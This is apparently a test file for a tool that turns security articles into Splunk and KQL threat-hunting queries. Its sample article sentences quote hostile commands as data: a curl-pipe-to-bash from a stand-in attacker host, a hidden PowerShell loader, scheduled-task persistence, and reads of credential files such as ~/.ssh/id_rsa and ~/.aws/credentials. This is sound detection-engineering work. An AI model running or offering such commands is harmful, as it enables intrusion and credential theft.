import { describe, expect, it } from 'vitest';
import type { Indicator } from '../../src/briefing/article.ts';
import { articleHunts, type SpecificHunt } from '../../src/classify/specific.ts';
import { checkKql } from '../../src/kql/check.ts';
import { createSchema } from '../../src/kql/schema.ts';
import { check } from '../spl/support.ts';
import { flat } from '../support/queries.ts';

const schema = createSchema({ tables: {}, functions: [] });

type FlatHunt = ReturnType<typeof flat<SpecificHunt>>;

function hunts(text: string, { title = 'Lab notes', indicators = [] as readonly Indicator[] } = {}): FlatHunt[] {
  const found = articleHunts(
    { kind: 'item', path: 'feed#1', publisher: 'Lab', title, url: 'https://lab.example/1', published: null, text },
    { indicators },
  ).map(flat);
  for (const { spl, kql } of found) {
    if (spl !== null) expect(check(spl)).toMatchObject({ verdict: 'ready', problems: [] });
    if (kql === null) continue;
    const [checked, ...others] = checkKql(kql, { schema });
    expect(others).toEqual([]);
    expect(checked?.verdict).toBe('ready');
    // A long list of addresses may make it too long to be edited in the portal, which is told.
    expect(checked?.problems.map(({ code }) => code).filter((code) => code !== 'kql-long-query')).toEqual([]);
  }
  return found;
}

function behaviour(text: string): FlatHunt | undefined {
  return hunts(text).find(({ title }) => title.startsWith('Article-specific behavioural hunt'));
}

const of = (type: Indicator['type'], ...values: string[]): Indicator[] => values.map((value) => ({ type, value }));

describe('an article that names a script', () => {
  const text = 'Once installed, the package runs steal_tokens.js, which reads every credential it can find.';

  it('yields a hunt of its own, as the feed’s articles do', () => {
    const title = 'A plugin that steals the tokens of everyone who builds with it, told from the very first commit on';
    const [hunt, ...more] = hunts(text, { title });
    expect(more).toEqual([]);
    expect(hunt).toMatchObject({
      title:
        'Article-specific behavioural hunt — A plugin that steals the tokens of everyone who builds with it, told from the ve',
      useCase: 'UC_0_0',
      phase: 'exploit',
      // A name alone may be anybody's.
      confidence: 'Medium',
      evidence: [`steal_tokens.js: ${text}`],
    });
  });

  it('looks for it where it runs and where it is written, in both languages', () => {
    const hunt = behaviour(text);
    expect(hunt?.spl).toContain('Processes.process="*steal_tokens.js*"');
    expect(hunt?.spl).toContain('Filesystem.file_name IN ("steal_tokens.js")');
    expect(hunt?.kql).toContain('ProcessCommandLine contains "steal_tokens.js"');
    expect(hunt?.kql).toContain('FileName in~ ("steal_tokens.js")');
  });
});

describe('names', () => {
  it.each([
    ['a program', 'The loader winupd32x.exe starts.', 'Processes.process_name IN ("winupd32x.exe")'],
    ['a library', 'It side-loads libcurlx.dll next.', 'Filesystem.file_name IN ("libcurlx.dll")'],
    ['a name in quotes with spaces', 'The lure is "Invoice May 2026.exe" in a zip.', 'IN ("Invoice May 2026.exe")'],
    ['a defanged name', 'The lure is evilthing[.]exe here.', 'IN ("evilthing.exe")'],
    ['the file of a defanged address', 'It fetches hxxps://bad[.]host[.]com/a/stage2x.ps1?x=1 then.', '"stage2x.ps1"'],
    ['a foreign name', 'Файл отчёт.exe запускается.', 'IN ("отчёт.exe")'],
    ['a hidden name', 'It drops ~/.sysupd/.helperd.sh there.', '".helperd.sh"'],
  ])('%s is looked for', (_what, text, expected) => {
    expect(behaviour(text)?.spl).toContain(expected);
  });

  it.each([
    ['what any machine runs', 'It starts powershell.exe, cmd.exe, svchost.exe and Rundll32.exe with kernel32.dll.'],
    ['products that are spelt like scripts', 'We use Node.js, node.js, Next.js, vue.js and Three.js with D3.js.'],
    ['names that every project has', 'Put it in index.js, setup.py, install.sh, __init__.py and main.py.'],
    ['a project’s source files', 'The bug is in src/server/handlers.js and lib/parse_args.py, see parser_x.py:120.'],
    ['addresses written out in full', 'Read https://github.com/lab/repo/blob/main/analysis_tool.py for more.'],
    ['pages of the attackers’ server', 'Data goes to hxxps://c2[.]evil[.]com/collect/gate_x.php now.'],
    ['defanged domains', 'It calls drop-site[.]sh and panel[.]py often.'],
    ['short examples', 'Run a.py or x.js for a test.'],
    ['wildcards and templates', 'It drops *.exe and <random>.exe files.'],
    ['nothing at all', ''],
  ])('%s: no hunt', (_what, text) => {
    expect(hunts(text)).toEqual([]);
  });

  it('that are the article’s own domains are none', () => {
    expect(
      hunts('It calls update-now.sh for orders.', { indicators: of('domain', 'update-now.sh') }).map(
        ({ title }) => title,
      ),
    ).toEqual(['Article-specific network indicators — Lab notes']);
  });

  it('are at most 15, in the text’s order, once each', () => {
    const names = Array.from({ length: 40 }, (_, n) => `brnlk${n}.exe`);
    const spl = behaviour(`${names.join(' ')} ${names.join(' ').toUpperCase()}`)?.spl ?? '';
    expect(spl.match(/brnlk\d+\.exe/g)?.slice(0, 15)).toEqual(names.slice(0, 15));
    expect(spl).not.toMatch(/dropper15|DROPPER/);
  });
});

describe('paths', () => {
  it.each([
    ['without the drive', 'It writes C:\\ProgramData\\Acmex\\run.dat there.', '\\\\ProgramData\\\\Acmex\\\\run.dat'],
    [
      'without the user',
      'In C:\\Users\\jdoe\\AppData\\Roaming\\Acmex\\cfg.bin.',
      '*\\\\AppData\\\\Roaming\\\\Acmex\\\\cfg.bin*',
    ],
    [
      'with its variable resolved',
      'See %LOCALAPPDATA%\\Acmex\\cfg.bin now.',
      '*\\\\AppData\\\\Local\\\\Acmex\\\\cfg.bin*',
    ],
    ['around a placeholder', 'See C:\\Users\\<user>\\Acmex\\Sync\\cfg.bin now.', '*\\\\Acmex\\\\Sync\\\\cfg.bin*'],
    ['with doubled backslashes', '"C:\\\\ProgramData\\\\Acmex\\\\run.dat"', '*\\\\ProgramData\\\\Acmex\\\\run.dat*'],
    [
      'with spaces in quotes',
      'In "C:\\ProgramData\\Acme Sync\\my run.dat".',
      '*\\\\ProgramData\\\\Acme Sync\\\\my run.dat*',
    ],
    [
      'below a folder with a space',
      'In C:\\Program Files\\Acmex\\run.dat too.',
      '*\\\\Program Files\\\\Acmex\\\\run.dat*',
    ],
    [
      'with a blank in a folder, without quotes',
      'It ran C:\\ProgramData\\Acme Systems\\Acme Sync\\run.dat then.',
      '*\\\\ProgramData\\\\Acme Systems\\\\Acme Sync\\\\run.dat*',
    ],
    [
      'before a key of the registry',
      'It writes C:\\ProgramData\\Acmex HKLM\\Software\\Acmex there.',
      '*\\\\ProgramData\\\\Acmex*',
    ],
    ['of Unix', 'It writes /usr/local/lib/.acmex/agentd there.', '*/usr/local/lib/.acmex/agentd*'],
    ['of a home', 'It writes ~/Library/LaunchAgents/com.acmex.plist there.', '*/Library/LaunchAgents/com.acmex.plist*'],
    ['of a named home', 'It writes /home/build/.acmex/agentd there.', '*/.acmex/agentd*'],
    ['of an impostor', 'It runs C:\\Users\\Public\\svchost.exe then.', '*\\\\Users\\\\Public\\\\svchost.exe*'],
  ])('are looked for %s', (_what, text, expected) => {
    expect(behaviour(text)?.spl).toContain(expected);
  });

  it.each([
    'It lists C:\\Windows\\System32\\ and C:\\Windows\\System32\\cmd.exe and %TEMP% files.',
    'It reads /etc/passwd, /etc/shadow, ~/.ssh/id_rsa, ~/.aws/credentials and /proc/self/environ.',
    'It uses /bin/bash, /usr/bin/curl and /dev/null, in /tmp.',
    'Tokens in C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data go.',
    'It sits in %APPDATA%\\Microsoft\\Windows\\Start\nMenu, and C:\\ProgramData\\Cisco\nSystems too.',
    'See https://lab.example/var/lib/acmex/agentd and docs/usr/local/acmex/agentd.',
  ])('of any machine are not: %s', (text) => {
    expect(behaviour(text)).toBeUndefined();
  });

  it('alone make a hunt of the install phase, at most 8 of them', () => {
    const hunt = behaviour(Array.from({ length: 20 }, (_, n) => `/opt/acmex/part${n}/agentd`).join(' and '));
    expect(hunt).toMatchObject({ phase: 'install' });
    expect(new Set(hunt?.kql?.match(/part\d+/g)).size).toBe(8);
  });
});

describe('registry keys, services, mutexes', () => {
  it('looks for a key without its hive, and for a value below it', () => {
    const hunt = behaviour('It sets HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\AcmexSync to itself.');
    expect(hunt?.spl).toContain(
      'Registry.registry_path="*\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\AcmexSync*"',
    );
    expect(hunt?.kql).toContain(
      '(RegistryKey endswith @"\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" and RegistryValueName =~ "AcmexSync")',
    );
  });

  it.each([
    'It uses HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run for persistence.',
    'It reads HKLM\\SOFTWARE\\Microsoft\\Cryptography\\MachineGuid first.',
    'The service called printer and a service named Spooler.',
    'They share by the service OneDrive and the file service WeTransfer.',
    'The Global\\ namespace of mutex objects.',
  ])('leaves what every machine has: %s', (text) => {
    expect(behaviour(text)).toBeUndefined();
  });

  it('looks for a service by its key and by its installation', () => {
    const hunt = behaviour('It installs a service named "AcmexSvc" that starts with Windows.');
    expect(hunt?.spl).toContain('Registry.registry_path="*\\\\Services\\\\AcmexSvc*"');
    expect(hunt?.kql).toContain(
      'ActionType in~ ("ServiceInstalled") and tostring(AdditionalFields) has_any ("AcmexSvc")',
    );
    expect(behaviour('sc create AcmexSvc binPath= x')?.kql).toContain('AcmexSvc');
    expect(behaviour('It installs the service AcmexUpd on each server.')?.kql).toContain('AcmexUpd');
  });

  it('looks for a mutex where scripts and command lines show it', () => {
    const hunt = behaviour('It creates the mutex "Global\\AcmexLock77" so that it runs once.');
    expect(hunt?.spl).toContain('Processes.process="*AcmexLock77*"');
    expect(hunt?.kql).toContain(
      '("PowerShellCommand", "ScriptContent") and tostring(AdditionalFields) has_any ("AcmexLock77")',
    );
  });
});

describe('command lines', () => {
  it.each([
    ['schtasks /create /tn "AcmexUpdate" /sc minute', 'AcmexUpdate'],
    ['powershell -nop -w hidden -c Invoke-AcmexLoader -Stage 2', 'Invoke-AcmexLoader -Stage 2'],
    ['$ curl -fsSL hxxps://drop[.]acmex-evil[.]net/i | bash', 'https://drop.acmex-evil.net/i'],
    ['curl -o /tmp/.acmex_h https://acmex-cdn[.]app/bin/arm64', '/tmp/.acmex_h https://acmex-cdn.app/bin/arm64'],
    ['curl -sk https://TARGET:10250/run/acmex-pod/app', ':10250/run/acmex-pod/app'],
    ['- `rundll32 acmexstage,#44 launch_mode7`', 'acmexstage,#44 launch_mode7'],
  ])('%s', (text, fragment) => {
    const hunt = behaviour(`They ran:\n\n${text}\n\nThat was all.`);
    expect(hunt?.spl?.replace(/\\(["\\])/g, '$1')).toContain(fragment);
    expect(hunt?.kql?.replace(/\\(["\\])/g, '$1')).toContain(fragment);
    expect(hunt?.phase).toBe('exploit');
  });

  it.each([
    'powershell -nop -w hidden -enc <payload>',
    'cmd /c whoami /all',
    'net user administrator /domain',
    'curl -sS …',
    'Node is a runtime that runs JavaScript outside of a browser-window.',
    'Git and GitHub are two different things, as everybody-knows.',
    'npm install left-padding-x',
  ])('of every day, or prose, are none: %s', (text) => {
    expect(behaviour(`Look:\n\n${text}\n\nThat was all.`)).toBeUndefined();
  });
});

describe('packages', () => {
  const titles = (text: string) => hunts(text).filter(({ title }) => title.startsWith('Article-specific package hunt'));

  it.each([
    [
      'a pin',
      'The compromised npm packages are:\n\n@acmex/color@4.1.1\nansi-acmex 1.2',
      ['@acmex/color@4.1.1', '/@acmex/color/-/color-4.1.1.tgz'],
    ],
    [
      'a name in quotes',
      'A malicious npm package, `acmex-util`, steals tokens.',
      ['* acmex-util*', '*/node_modules/acmex-util/*', '*\\\\node_modules\\\\acmex-util\\\\*'],
    ],
    ['a name in prose', 'The malicious npm package acmex-util steals tokens.', ['acmex-util']],
    ['a scoped name', 'Attackers published @acmex/evil-util, an infected npm module.', ['@acmex/evil-util']],
    [
      'a Python pin',
      'The hijacked PyPI release acmex-sdk==2.0.1 ran at import.',
      ['acmex-sdk==2.0.1', 'acmex_sdk-2.0.1.dist-info'],
    ],
    ['a gem', 'The rogue gem was pulled: gem install acmex_tools -v 0.3.1 ran malware.', ['*/gems/acmex_tools-0.3.1*']],
    [
      'a NuGet page',
      'Malicious: https://www.nuget.org/packages/Acmex.Core/1.0.2 on NuGet.',
      ['/.nuget/packages/acmex.core/1.0.2/'],
    ],
    [
      'a Go module',
      'The backdoored Go module `github.com/acmex-evil/sqlx` answers to its owner.',
      ['/pkg/mod/github.com/acmex-evil/sqlx@'],
    ],
    ['a crate', 'The malicious crate is at crates.io/crates/acmex_rand/0.1.9 still.', ['acmex_rand-0.1.9.crate']],
    [
      'names with their versions',
      'Affected: @acmex/core 4.2.1 and 4.2.2, acmex-lite 3.0.7 on npm.',
      ['@acmex/core@4.2.1', '@acmex/core@4.2.2', 'acmex-lite@3.0.7'],
    ],
    [
      'a part of a list that is of another registry',
      'Compromised npm packages: acmex-lite 3.0.7; on PyPI: acmexhttpkit 1.4.2.',
      ['acmex-lite@3.0.7', 'acmexhttpkit==1.4.2'],
    ],
    ['a purl', 'Trojanized: pkg:npm/%40acmex/core@3.2.1 and others.', ['@acmex/core@3.2.1']],
  ])('are found as %s', (_what, text, expected) => {
    const [hunt] = titles(text);
    for (const piece of expected) expect(hunt?.spl).toContain(piece);
    expect(hunt).toMatchObject({ phase: 'delivery' });
  });

  it.each([
    'Run npm install acmex-util to try our friendly package.',
    'Lodash and `express` are npm packages that malicious code may use.',
    'A compromised npm package-lock and pre-install scripts are dangerous.',
    'Malicious packages on PyPI use post-install hooks and look-alike names.',
    'Fake Python packages were uploaded by evil.example.com again.',
    'Malicious npm packages: see index.js and package.json for details.',
    'The compromised npm package has a script:\n\n"version": "4.2.1",\n"scripts": {\n"preinstall": "node run.js"',
    'The npm package is malicious. Downgrade to acmex-lite 4.2.0, or upgrade to acmex-lite@4.3.0.',
    'Readers will remember the npm worm that infected @acmex/colors 4.1.1.',
    'Malicious packages run on python 3.9 and chrome 137.0 alike.',
  ])('are not found in: %s', (text) => {
    expect(titles(text)).toEqual([]);
  });

  it('are hunted by their bad versions alone where there are some', () => {
    const [hunt] = titles('The compromised npm package @acmex/core is bad.\n\nAffected: @acmex/core 4.2.1.');
    expect(hunt?.spl).toContain('@acmex/core@4.2.1');
    expect(hunt?.spl).not.toContain('* @acmex/core*');
  });

  it('are split into hunts of 25, each with a name of its own that growth does not change', () => {
    const list = (count: number) =>
      `Malicious npm packages:\n\n${Array.from({ length: count }, (_, n) => `acmex-part-${n}@1.0.${n}`).join('\n')}`;
    expect(titles(list(20)).map(({ title }) => title)).toEqual(['Article-specific package hunt — Lab notes']);
    expect(titles(list(60)).map(({ title }) => title)).toEqual([
      'Article-specific package hunt — Lab notes',
      'Article-specific package hunt (2) — Lab notes',
      'Article-specific package hunt (3) — Lab notes',
    ]);
    expect(titles(list(60)).map(({ useCase }) => useCase)).toEqual(['UC_0_0', 'UC_0_1', 'UC_0_2']);
  });
});

describe('indicators', () => {
  it('of the network become one hunt', () => {
    const [hunt, ...more] = hunts('x', {
      indicators: [
        ...of('domain', 'c2.acmex-evil.net'),
        ...of('ipv4', '198.18.7.7'),
        ...of('ipv6', '2001:470::7'),
        ...of('url', 'https://acmex-evil.net/a?b=1'),
      ],
    });
    expect(more).toEqual([]);
    expect(hunt).toMatchObject({
      title: 'Article-specific network indicators — Lab notes',
      phase: 'c2',
      confidence: 'High',
    });
    expect(hunt?.spl).toContain('DNS.query="*.c2.acmex-evil.net"');
    expect(hunt?.spl).toContain('All_Traffic.dest_ip IN ("198.18.7.7", "2001:470::7")');
    expect(hunt?.spl).toContain('Web.url="*acmex-evil.net/a?b=1*"');
    expect(hunt?.kql).toContain('RemoteIP in~ ("198.18.7.7", "2001:470::7")');
    expect(hunt?.kql).toContain('RemoteUrl has_any ("c2.acmex-evil.net") or RemoteUrl contains "acmex-evil.net/a?b=1"');
  });

  it('of files, mail and vulnerabilities become one hunt each', () => {
    const found = hunts('x', {
      indicators: [
        ...of('sha256', 'ab'.repeat(32)),
        ...of('sha1', 'cd'.repeat(20)),
        ...of('md5', 'ef'.repeat(16)),
        ...of('email', 'billing@acmex-evil.net'),
        ...of('cve', 'cve-2026-12345'),
      ],
    });
    expect(found.map(({ title, phase }) => `${phase} ${title}`)).toEqual([
      'install Article-specific file hashes — Lab notes',
      'delivery Article-specific senders — Lab notes',
      'recon Article-specific exposure — Lab notes',
    ]);
    expect(found[0]?.kql).toContain(`SHA1 in~ ("${'cd'.repeat(20)}")`);
    expect(found[0]?.spl).toContain(`Processes.process_hash="*${'ef'.repeat(16)}*"`);
    expect(found[1]?.spl).toContain('All_Email.src_user IN ("billing@acmex-evil.net")');
    expect(found[2]?.spl).toContain('Vulnerabilities.cve IN ("CVE-2026-12345")');
    expect(found[2]?.kql).toContain('CveId in~ ("CVE-2026-12345")');
  });

  it('are split into hunts of at most 50', () => {
    const many = of('domain', ...Array.from({ length: 120 }, (_, n) => `c${n}.acmex-evil.net`));
    const found = hunts('x', { indicators: many });
    expect(found.map(({ title }) => title)).toEqual([
      'Article-specific network indicators — Lab notes',
      'Article-specific network indicators (2) — Lab notes',
      'Article-specific network indicators (3) — Lab notes',
    ]);
    expect(found.map(({ spl }) => new Set(spl?.match(/c\d+\.acmex/g)).size)).toEqual([50, 50, 20]);
    const grown = hunts('x', { indicators: [...many, ...of('domain', 'new.acmex-evil.net')] });
    expect(grown.slice(0, 2)).toEqual(found.slice(0, 2));
  });

  it('as long as anybody may write them make no hunt that is too long to run', () => {
    const urls = Array.from({ length: 60 }, (_, n) => `https://acmex-evil.net/${n}/${'x/'.repeat(1500)}`);
    const paths = Array.from({ length: 20 }, (_, n) => `C:\\acmex${n}\\${`${'y'.repeat(100)}\\`.repeat(15)}z.dat`);
    const packages = Array.from(
      { length: 30 },
      (_, n) => `github.com/acmex/${'p/'.repeat(5)}${'q'.repeat(60 + n)}@v1.2.3`,
    );
    const text = `${paths.join('\n')}\nBackdoored Go modules:\n${packages.join('\n')}`;
    const found = hunts(text, { indicators: of('url', ...urls) });
    expect(found.length).toBeGreaterThanOrEqual(4);
    for (const { spl, kql } of found) expect(Math.max(spl?.length ?? 0, kql?.length ?? 0)).toBeLessThan(40_000);
  });

  it('that are placeholders or examples are left out', () => {
    const indicators = [
      ...of('domain', 'example.com', 'c2.example', 'www.example.invalid'),
      ...of('ipv4', '0.0.0.0'),
      ...of('md5', '0'.repeat(32)),
    ];
    expect(hunts('x', { indicators })).toEqual([]);
  });
});

describe('terms that would waste a search', () => {
  it('a folder stands for what is in it', () => {
    const kql =
      behaviour('It made C:\\ProgramData\\AcmexNt and ran C:\\ProgramData\\AcmexNt\\start.vbs there.')?.kql ?? '';
    expect(kql).toContain('\\ProgramData\\AcmexNt"');
    expect(kql).not.toContain('\\ProgramData\\AcmexNt\\start.vbs');
  });

  it('assemblies of .NET are everywhere, and a path that was cut inside quotes is the beginning of anything', () => {
    const kql = behaviour(
      "The loader acmexload.exe used System.Web.Extensions.dll.\ncsc /R:'C:\\windows\\Acmexso\ncmd.exe /c 'C:\\ProgramData\\Vendor",
    )?.kql;
    expect(kql).toContain('acmexload.exe');
    expect(kql).not.toMatch(/System\.Web|Acmexso|ProgramData/);
  });

  it('what differs for each victim is left out of an address', () => {
    const [hunt] = hunts('News.', {
      indicators: of(
        'url',
        'https://acmex-gate.top/hk/qt.php?dt=%computername%',
        'http://acmex-drop.top/?key=$1',
        'http://acmex-plain.top/a/b?c=d',
      ),
    });
    expect(hunt?.kql).toContain('"acmex-gate.top/hk/qt.php?dt="');
    expect(hunt?.kql).toContain('"acmex-plain.top/a/b?c=d"');
    expect(hunt?.kql).not.toMatch(/computername|\$1/);
  });
});

it.each([
  'A modified PAM module, pam_unix.so, keeps passwords.',
  'It renames its process to /usr/sbin/auditd and waits.',
  'The stealer copies /Users/jo/Library/Keychains/login.keychain-db.',
  'It adds a line to /etc/sysconfig/init on the host.',
  'It writes to C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\ there.',
])('what every machine has is no trace: %s', (text) => {
  expect(hunts(text)).toEqual([]);
});

it('a daemon of Linux in an odd folder is one', () => {
  expect(
    hunts('The miner lies at /tmp/.x/auditd.')
      .map(({ kql }) => kql)
      .join(),
  ).toContain('/tmp/.x/auditd');
});
